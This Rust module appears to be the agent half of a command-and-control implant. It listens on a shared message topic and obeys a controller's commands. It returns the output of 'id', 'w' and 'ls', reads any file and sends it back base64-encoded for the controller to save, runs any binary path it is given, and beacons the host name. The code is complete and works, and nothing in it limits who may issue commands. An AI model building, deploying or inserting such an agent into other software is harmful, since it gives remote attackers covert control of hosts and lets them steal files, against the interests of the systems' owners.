//! Agent runtime: react to commands observed on the shared topic.

use std::io::ErrorKind;
use std::time::Duration;

use base64::engine::general_purpose::STANDARD as BASE64;
use base64::Engine;
use tokio::sync::broadcast;
use tokio::task::JoinHandle;
use tracing::{debug, trace, warn};

use crate::bus::{BusHandle, BusMessage};
use crate::exec::{self, ExecOutcome};
use crate::protocol::action::Action;
use crate::protocol::envelope::Envelope;
use crate::protocol::role::{classify, InboundRole};
use crate::{AppError, Result};

/// A single agent identity bound to a bus handle.
pub struct AgentRuntime {
    identity: String,
    topic: String,
    exec_deadline: Duration,
    bus: BusHandle,
}

impl AgentRuntime {
    /// Bind an agent to a bus handle.
    #[must_use]
    pub fn new(identity: String, topic: String, exec_deadline: Duration, bus: BusHandle) -> Self {
        Self {
            identity,
            topic,
            exec_deadline,
            bus,
        }
    }

    /// Subscribe and spawn the receive loop.
    ///
    /// Subscription happens before the task is spawned, so a command
    /// published right after this call returns is not missed.
    #[must_use]
    pub fn spawn(self) -> JoinHandle<()> {
        let receiver = self.bus.subscribe();
        tokio::spawn(self.run(receiver))
    }

    /// Receive loop: classify every payload on our topic and act on
    /// commands. Responses from sibling agents and foreign noise get no
    /// reaction at all.
    async fn run(self, mut receiver: broadcast::Receiver<BusMessage>) {
        loop {
            match receiver.recv().await {
                Ok(message) => {
                    if message.topic != self.topic {
                        continue;
                    }
                    self.handle_payload(&message.payload).await;
                }
                Err(broadcast::error::RecvError::Lagged(skipped)) => {
                    warn!(skipped, "delivery lagged; commands may have been missed");
                }
                Err(broadcast::error::RecvError::Closed) => {
                    debug!("bus closed; agent loop ending");
                    break;
                }
            }
        }
    }

    /// Handle one inbound payload. Every failure stays contained here so a
    /// hostile or garbled message cannot take the loop down.
    async fn handle_payload(&self, payload: &[u8]) {
        match classify(payload) {
            InboundRole::Command { action, argument } => {
                debug!(%action, "command received");
                let reply_text = self.execute(action, argument).await;
                if let Err(err) = self.reply(Some(&reply_text)).await {
                    warn!(%err, "failed to publish response");
                }
            }
            InboundRole::Response { .. } | InboundRole::Unrecognized => {
                trace!("ignoring non-command payload");
            }
        }
    }

    async fn reply(&self, message: Option<&str>) -> Result<()> {
        let envelope = Envelope::response(&self.identity, message)?;
        self.bus.publish(&self.topic, envelope.to_wire()?).await
    }

    /// Execute one command; every failure mode collapses into reply text.
    async fn execute(&self, action: Action, argument: Option<String>) -> String {
        match self.try_execute(action, argument).await {
            Ok(text) => text,
            Err(err) => err.to_string(),
        }
    }

    async fn try_execute(&self, action: Action, argument: Option<String>) -> Result<String> {
        match action {
            Action::ListPeers => Ok(self.presence().await),
            Action::ListSessions => self.run_captured("w", &[]).await,
            Action::Whoami => self.run_captured("id", &[]).await,
            Action::ListDirectory => {
                let path = require_path(action, argument)?;
                self.run_captured("ls", &[path]).await
            }
            Action::FetchFile => {
                let path = require_path(action, argument)?;
                Ok(self.read_file(&path).await)
            }
            Action::RunBinary => {
                let path = require_path(action, argument)?;
                self.run_captured(&path, &[]).await
            }
        }
    }

    /// Presence beacon: host name when available, identity otherwise.
    async fn presence(&self) -> String {
        match exec::run("hostname", &[], self.exec_deadline).await {
            Ok(ExecOutcome::Completed(output)) if output.exit_code == 0 => {
                let host = output.stdout.trim();
                if host.is_empty() {
                    self.identity.clone()
                } else {
                    host.to_owned()
                }
            }
            _ => self.identity.clone(),
        }
    }

    async fn run_captured(&self, program: &str, args: &[String]) -> Result<String> {
        match exec::run(program, args, self.exec_deadline).await? {
            ExecOutcome::Completed(output) if output.exit_code == 0 => Ok(output.stdout),
            ExecOutcome::Completed(output) => Ok(format!("Err {}", output.stderr)),
            ExecOutcome::TimedOut => Ok(format!(
                "{program} timed out after {}s",
                self.exec_deadline.as_secs()
            )),
            ExecOutcome::NotFound => Ok(format!("{program} not found")),
        }
    }

    /// Read a file and return its bytes base64-encoded (binary-safe on the
    /// wire; the controller decodes when saving).
    async fn read_file(&self, path: &str) -> String {
        match tokio::fs::read(path).await {
            Ok(bytes) => BASE64.encode(bytes),
            Err(err) if err.kind() == ErrorKind::NotFound => format!("{path} not found"),
            Err(err) => format!("Err {err}"),
        }
    }
}

fn require_path(action: Action, argument: Option<String>) -> Result<String> {
    argument.ok_or_else(|| {
        AppError::MissingArgument(format!("{action} needs a path and none was attached"))
    })
}
